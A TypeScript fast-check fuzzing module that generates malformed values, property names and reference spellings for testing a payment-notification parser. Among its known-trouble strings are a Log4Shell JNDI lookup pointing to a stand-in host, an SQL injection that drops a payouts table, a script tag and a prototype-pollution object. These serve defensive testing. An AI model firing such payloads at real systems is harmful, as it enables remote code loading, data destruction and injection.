import fc, { type Arbitrary } from 'fast-check';
import { PAYEE } from './payee.ts';

/** Each has been a defect of somebody's parser. Some are no JSON. */
const KNOWN_TROUBLES = [
  ...['null', 'true', 'false', '""', '" "', '[]', '{}', '[[]]', '{"value":12.34}', '[12.34]', 'undefined', ''],
  ...['0', '-0', '-1', '-12.34', '12.340', '12.345', '1e2', '1234e-2', '1E400', '-1e-400', '0.1', '0.005', '12.34e0'],
  ...['9007199254740993', '123456789012345678901234567890', 'NaN', 'Infinity', '0x10', '012', '.5', '+1', '1_000'],
  ...['"12.34"', '"12.3400"', '"12,34"', '" 12.34"', '"$12.34"', '"0x10"', '"1e3"', '"١٢٫٣٤"', '"NaN"', '"1000001"'],
  ...['"Payment Successful "', '"PAYMENT SUCCESSFUL"', '"Payment Successful\\u0000"', '"Payment\\tSuccessful"'],
  ...['"Paymеnt Successful"', '"Rejected"', '"Pending"', '"Completed"', '["Payment Successful"]', '"\\ud800"'],
  ...['"__proto__"', '"constructor"', '"toString"', '{"__proto__":{"Status":"Rejected"}}', '"\\u0000"', '"\\u202e"'],
  ...[
    '"Credit"',
    '"credit "',
    '"Debit"',
    '"${jndi:ldap://fuzz.example/a}"',
    '"\'; DROP TABLE payouts; --"',
    '"<script>"',
  ],
];

const quotesOfPayee = fc.constantFrom(
  JSON.stringify(PAYEE),
  ...Object.values(PAYEE).flatMap((text) => [JSON.stringify(text), JSON.stringify(text.split('').join(' '))]),
);

const long = fc
  .record({
    unit: fc.constantFrom('x', '9', 'é', '\u{1f4b8}', ' '),
    times: fc.constantFrom(36, 200, 201, 5_000, 50_000),
  })
  .map(({ unit, times }) => JSON.stringify(unit.repeat(times)));

const deep = fc.constantFrom(10, 1_000, 20_000).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`);

/** The text of a value that does not belong where it is put. */
export const oddValue: Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...KNOWN_TROUBLES), weight: 8 },
  { arbitrary: fc.json({ maxDepth: 4 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 300 }).map((text) => JSON.stringify(text)), weight: 2 },
  { arbitrary: fc.double().map(String), weight: 2 },
  { arbitrary: fc.bigInt().map(String), weight: 1 },
  { arbitrary: quotesOfPayee, weight: 2 },
  { arbitrary: long, weight: 1 },
  { arbitrary: deep, weight: 1 },
);

/** Names that an object may have without anybody having put them there, and spellings of those that are read. */
export const oddName: Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'toJSON', 'then', 'length'],
    ...['eventName', 'EventName', 'Status', 'status', 'STATUS', 'Status ', 'Stаtus', 'Amount', 'amount', 'Type', ''],
    ...[
      'UniqueReference',
      'uniqueReference',
      'TransactionReference',
      'ReturnTransactionId',
      'ReturnDate',
      'ReturnReason',
    ],
    ...['OriginalTransactionId', 'TransactionId', 'DirectCreditDetails', 'TransactionIds', 'PaymentDescription'],
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

const UNKNOWN_PAYOUTS = '0fdc3a52-7be1-8c55-9c7d-8e9f0a1b2c3d';
const FOREIGN = '0fdc3a52-7be1-4c55-9c7d-8e9f0a1b2c3d';

/** Spellings of a payout's reference, and what may stand in its place. */
export const oddReference: Arbitrary<(reference: string) => string> = fc.constantFrom<
  ((reference: string) => string)[]
>(
  (reference) => reference.toUpperCase(),
  (reference) => `txn-${reference}`,
  (reference) => `{${reference}}`,
  (reference) => ` ${reference}`,
  (reference) => `${reference}\n`,
  (reference) => `${reference}\u0000`,
  (reference) => reference.replaceAll('-', ''),
  (reference) => reference.replaceAll('-', '‐'),
  (reference) => `${reference}${reference}`,
  (reference) => `${reference.slice(0, -1)}${reference.endsWith('0') ? '1' : '0'}`,
  () => UNKNOWN_PAYOUTS,
  () => FOREIGN,
  () => PAYEE.payId,
  () => PAYEE.accountNumber,
);
